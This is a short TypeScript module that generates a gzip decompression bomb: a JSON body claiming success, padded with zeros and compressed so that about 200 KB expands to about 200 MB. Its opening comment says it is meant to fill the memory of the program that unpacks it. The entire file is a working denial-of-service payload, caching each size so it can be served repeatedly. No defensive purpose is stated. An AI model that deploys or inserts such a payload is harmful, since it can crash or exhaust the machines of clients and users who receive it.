// An answer that is small when sent, and fills the memory of the program that unpacks it.

import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { createGzip } from 'node:zlib';

const made = new Map<number, Promise<Buffer>>();

/** JSON that says yes and unpacks to so many megabytes; 200 of them are packed into 200 KB. */
export function gzipBomb(megabytes: number): Promise<Buffer> {
	let packed = made.get(megabytes);
	if (!packed) {
		packed = buffer(Readable.from(text(megabytes)).pipe(createGzip({ level: 9 })));
		made.set(megabytes, packed);
	}
	return packed;
}

/** In pieces, so that this process never holds all of it. */
function* text(megabytes: number) {
	const zeros = Buffer.alloc(2 ** 20, '0');
	yield Buffer.from('{"success":true,"message":"');
	for (let sent = 0; sent < megabytes; sent++) yield zeros;
	yield Buffer.from('"}');
}
